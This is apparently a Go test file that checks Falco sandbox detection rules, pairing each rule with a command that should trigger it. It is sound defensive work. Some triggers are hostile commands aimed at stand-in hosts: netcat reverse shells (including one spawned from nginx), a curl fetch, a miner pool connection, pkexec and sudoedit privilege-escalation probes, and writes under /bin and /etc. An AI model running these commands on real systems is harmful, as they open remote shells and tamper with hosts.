package livetest

import (
	"fmt"
	"maps"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/testudo-sec/testudo/internal/require"
	"github.com/testudo-sec/testudo/policy"
)

// sandbox are Falco's rules that are no more than a beginning, and what makes them fire. They are switched on for it.
var sandbox = []deed{
	{rule: "unexpected-inbound-connection-source", where: inGreat, do: "/opt/deed/deed listen 93.184.216.34:7000"},
	{rule: "read-shell-configuration-file", where: inPlain, do: "/bin/cat /root/.bashrc"},
	{rule: "update-package-repository", where: inPlain, do: "/bin/mkdir -p /etc/apt/sources.list.d; echo x | /bin/tee /etc/apt/sources.list.d/x.list"},
	{rule: "write-below-binary-dir", where: inPlain, do: "/bin/touch /bin/evil"},
	{rule: "write-below-monitored-dir", where: inPlain, do: "/bin/touch /lib/evil"},
	{rule: "write-below-etc", where: inPlain, do: "/bin/touch /etc/evil"},
	{rule: "write-below-root", where: inPlain, do: "/bin/touch /evil"},
	{rule: "write-below-rpm-database", where: inPlain, do: "/bin/mkdir -p /var/lib/rpm; /bin/touch /var/lib/rpm/Packages"},
	{rule: "modify-binary-dirs", where: inPlain, do: "/bin/touch /bin/evil; /bin/mv /bin/evil /bin/worse"},
	{rule: "mkdir-binary-dirs", where: inPlain, do: "/bin/mkdir /bin/folder"},
	{rule: "launch-sensitive-mount-container", where: inGreat, alreadyDone: true},
	{rule: "interpreted-procs-inbound-network-activity", where: inGreat, do: "/opt/deed/python3 listen 93.184.216.34:7001"},
	{rule: "interpreted-procs-outbound-network-activity", where: inGreat, do: "/opt/deed/python3 connect tcp4 93.184.216.34:80"},
	{rule: "unexpected-k8s-nodeport-connection", where: inGreat, do: "/opt/deed/deed connect tcp4 93.184.216.34:30001"},
	{rule: "create-hidden-files-or-directories", where: inPlain, do: "/bin/mkdir /tmp/.hidden"},
	{rule: "detect-outbound-connections-to-common-miner-pool-ports", where: inGreat, do: "/opt/deed/deed resolve ca.minexmr.com 93.184.216.34 4444"},
	{rule: "detect-crypto-miners-using-the-stratum-protocol", do: "/opt/deed/deed -o stratum+tcp://pool.example:3333"},
	{rule: "kubernetes-client-tool-launched-in-container", where: inPlain, do: "/opt/deed/kubectl get pods"},
	{rule: "container-drift-detected-chmod", where: inPlain, do: "/bin/touch /tmp/bits; /bin/chmod 755 /tmp/bits"},
	{rule: "container-drift-detected-open-create", where: inPlain, do: "/bin/cp /opt/deed/deed /tmp/copied"},
	{rule: "container-run-as-root-user", where: inGreat, alreadyDone: true},
	{rule: "sudo-potential-privilege-escalation", do: `/opt/deed/sudoedit -s 'AAAA\'`},
	{rule: "unprivileged-delegation-of-page-faults-handling-to-a-userspace-process", do: "/opt/deed/deed as 1 /opt/deed/deed faults"},
	{rule: "polkit-local-privilege-escalation-vulnerability-cve-2021-4034", do: "/opt/deed/pkexec"},
	{rule: "decoding-payload-in-container", where: inPlain, do: "echo eA== | /bin/base64 -d"},
	{rule: "basic-interactive-reconnaissance", where: inPlain, act: func(t *testing.T, h *host) { h.enter(t, "plain", true, "/bin/whoami") }},
	{rule: "netcat-socat-remote-code-execution-on-host", do: "/opt/deed/nc -e /bin/sh 203.0.113.9 4444"},
	{rule: "network-tool-executed-during-npm-package-install", where: inPlain, do: "/opt/deed/npm run /opt/deed/nc 203.0.113.9 4444"},
	{rule: "known-cryptominer-process-executed", do: "/opt/deed/xmrig"},
	{rule: "web-server-spawned-shell", do: "/opt/deed/nginx run /bin/sh -c id"},
	{rule: "web-server-spawned-suspicious-child-process", do: "/opt/deed/nginx run /opt/deed/curl http://203.0.113.9/x"},
	{rule: "reverse-shell-from-web-server", do: "/opt/deed/nginx run /opt/deed/nc -e /bin/sh 203.0.113.9 4444"},
	{rule: "privileged-container-device-access", where: inGreat, do: "/bin/mknod /dev/vdz b 7 200; /bin/touch /dev/sd-file"},
	{rule: "container-access-to-host-sensitive-paths", where: inGreat, do: "/bin/cat /host/hostname"},
}

// asleep are those that cannot fire here, and why.
var asleep = map[string]string{
	"launch-disallowed-container":      "as published it allows every container: its macro allowed_containers is to be overridden",
	"java-process-class-file-download": "evt.buffer: what a program receives is not carried, but for messages of DNS",
	"modify-container-entrypoint":      "fd.name is the path that the kernel resolved, which is never /proc/self/exe",
}

// TestSandboxRules does for Falco's sandbox rules what they are about, as far as it can be.
func TestSandboxRules(t *testing.T) {
	dir := filepath.Join(require.Corpora(t), "falco")
	on := ""
	for _, r := range load(t, policy.Disk(filepath.Join(dir, "falco-sandbox_rules.yaml"))).Rules() {
		on += fmt.Sprintf("- rule: %q\n  enabled: true\n", r.Title)
	}
	set := load(t, policy.Disk(filepath.Join(dir, "falco-sandbox_rules.yaml")), policy.Embedded("on:", fstest.MapFS{"on.yaml": {Data: []byte(on)}}))
	left := map[string]bool{}
	for _, r := range set.Rules() {
		left[strings.TrimPrefix(r.ID, "falco.")] = true
	}
	h := watch(t, set)
	for _, d := range sandbox {
		delete(left, d.rule)
		h.check(t, "falco."+d.rule, &d)
	}
	for rule := range asleep {
		delete(left, rule)
	}
	if len(left) > 0 {
		t.Errorf("nothing is done for %v", slices.Sorted(maps.Keys(left)))
	}
	t.Logf("%d of %d fire", len(sandbox), len(sandbox)+len(asleep))
}
